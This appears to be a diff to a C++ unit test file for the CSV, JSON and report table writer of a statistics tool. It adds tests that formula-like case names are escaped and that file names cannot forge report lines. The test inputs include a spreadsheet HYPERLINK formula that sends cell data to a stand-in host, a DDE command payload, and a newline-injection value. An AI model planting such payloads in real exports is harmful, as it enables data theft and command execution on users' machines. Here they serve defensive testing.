@@ -1,4 +1,5 @@
 #include "table.h"
+#include "caseentry.h"
 
 #include <gtest/gtest.h>
 
@@ -17,6 +18,8 @@ namespace {
 // which field it took.
 kalmir::Result numberedFigures() {
   kalmir::Result a;
+  a.n_a = 3;  // as goodCase's
+  a.n_b = 4;
   float f = 1.0f;
   for (kalmir::Line* line : {&a.null_model, &a.exp_model}) {
     for (float* field : {&line->intercept, &line->intercept_se, &line->slope,
@@ -69,7 +72,7 @@ TEST(Table, CsvHeaderIsTheDocumentedOne) {
       "null_s,null_s_se,exp_int,exp_int_se,exp_slope,exp_slope_se,exp_s,"
       "exp_s_se,r1,r1_se,null_mean,null_sd,exp_mean,exp_sd,d_unstd,d,d_se,r,"
       "r_squared,direction,p,notes\n",
-      csvHeader());
+      kalmir::csv_header());
 }
 
 TEST(Table, EveryColumnTakesItsSlot) {
@@ -84,7 +87,7 @@ TEST(Table, EveryColumnTakesItsSlot) {
   const nlohmann::ordered_json object = nlohmann::ordered_json::parse(
       tableEntry(TableFormat::kJson, goodCase("Al"), &a));
   const std::vector<std::string> names =
-      split(csvHeader().substr(0, csvHeader().size() - 1), ',');
+      split(kalmir::csv_header().substr(0, kalmir::csv_header().size() - 1), ',');
   const std::vector<std::string> values =
       split(row.substr(0, row.size() - 1), ',');
   ASSERT_EQ(names.size(), object.size());
@@ -106,8 +109,10 @@ TEST(Table, EveryColumnTakesItsSlot) {
 TEST(Table, APlotColumnNamesEachPlotBeforeTheNotes) {
   // Only when plots are drawn; a case without a plot has it empty.
   const kalmir::Result a = numberedFigures();
-  EXPECT_EQ(csvHeader().substr(0, csvHeader().size() - 6) + "plot,notes\n",
-            csvHeader(true));
+  const std::string header = kalmir::csv_header();
+  const std::string withPlot = TableWriter(TableFormat::kCsv, true).begin();
+  EXPECT_EQ(header.substr(0, header.size() - 6) + "plot,notes\n", withPlot);
+  EXPECT_EQ(header, TableWriter(TableFormat::kCsv).begin());
   const std::string plot = "Al.svg", none;
   const std::string row =
       tableEntry(TableFormat::kCsv, goodCase("Al"), &a, &plot);
@@ -116,7 +121,7 @@ TEST(Table, APlotColumnNamesEachPlotBeforeTheNotes) {
   bad.error = "no B phase";
   const std::string badRow =
       tableEntry(TableFormat::kCsv, bad, nullptr, &none);
-  EXPECT_EQ(split(csvHeader(true), ',').size(), split(badRow, ',').size());
+  EXPECT_EQ(split(withPlot, ',').size(), split(badRow, ',').size());
   // A name that needs quotes in CSV gets them in this column too.
   const std::string quoted = "A, B.svg";
   const std::string quotedRow =
@@ -201,6 +206,7 @@ TEST(Table, NotesJoinInputNotesAndFigureNotes) {
   c.nNA = 2;  // a two-point phase draws a note on the figures
   c.notes = {"1 missing value (empty or NA) left out"};
   kalmir::Result a = numberedFigures();
+  a.n_a = 2;
   a.notes = {{kalmir::NoteCode::short_phase, "a note, on the figures"}};
   const std::vector<std::string> figureNotes = {a.notes[0].text};
   const std::string notes =
@@ -236,7 +242,45 @@ TEST(Table, JsonEntriesMakeOneArray) {
     }
   }
   TableWriter csv(TableFormat::kCsv);
-  EXPECT_EQ(csvHeader(), csv.begin());
+  EXPECT_EQ(kalmir::csv_header(), csv.begin());
   EXPECT_EQ("", csv.beforeEntry());
   EXPECT_EQ("", csv.end());
+}
+
+TEST(Table, TextThatASpreadsheetWouldRunIsWrittenAsText) {
+  kalmir::Result a = numberedFigures();
+  a.d = -2.5f;  // a number keeps its sign
+  for (const std::string name :
+       {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1,2)",
+        "@SUM(A1)", "-1", "\tTab", "\rCR"}) {
+    const std::string row =
+        tableEntry(TableFormat::kCsv, goodCase(name), &a);
+    const std::string kept = "'" + name;
+    const bool bQuoted = kept.find_first_of(",\"\r\n") != std::string::npos;
+    std::string field = kept;
+    if (bQuoted) {
+      field = "\"";
+      for (char c : kept) field += c == '"' ? std::string("\"\"") : std::string(1, c);
+      field += "\"";
+    }
+    EXPECT_EQ(0u, row.find(field + ",ok,3,4,")) << row;
+    EXPECT_NE(std::string::npos, row.find(",-2.5,")) << row;
+    // JSON is data, not a spreadsheet: the name stays as it is.
+    EXPECT_EQ(name, nlohmann::json::parse(tableEntry(
+                        TableFormat::kJson, goodCase(name), &a))["case"]);
+  }
+  // A note that begins like a formula is text too.
+  Case c = failedCase("Lee");
+  c.file = "=cmd|'/C calc'!A0.csv";
+  EXPECT_NE(std::string::npos,
+            tableEntry(TableFormat::kCsv, c, nullptr).find(",'=cmd|"));
+}
+
+TEST(Table, AFileNameCannotStartALineOfItsOwn) {
+  Case c = failedCase("Lee");
+  c.file = "a.csv\n== Fake case";
+  const std::string report = tableEntry(TableFormat::kReport, c, nullptr);
+  EXPECT_EQ(std::string::npos, report.find("\n== Fake")) << report;
+  EXPECT_EQ("a.csv?== Fake case:14: no B phase (the phase column holds only A)",
+            caseMessage(c));
 }
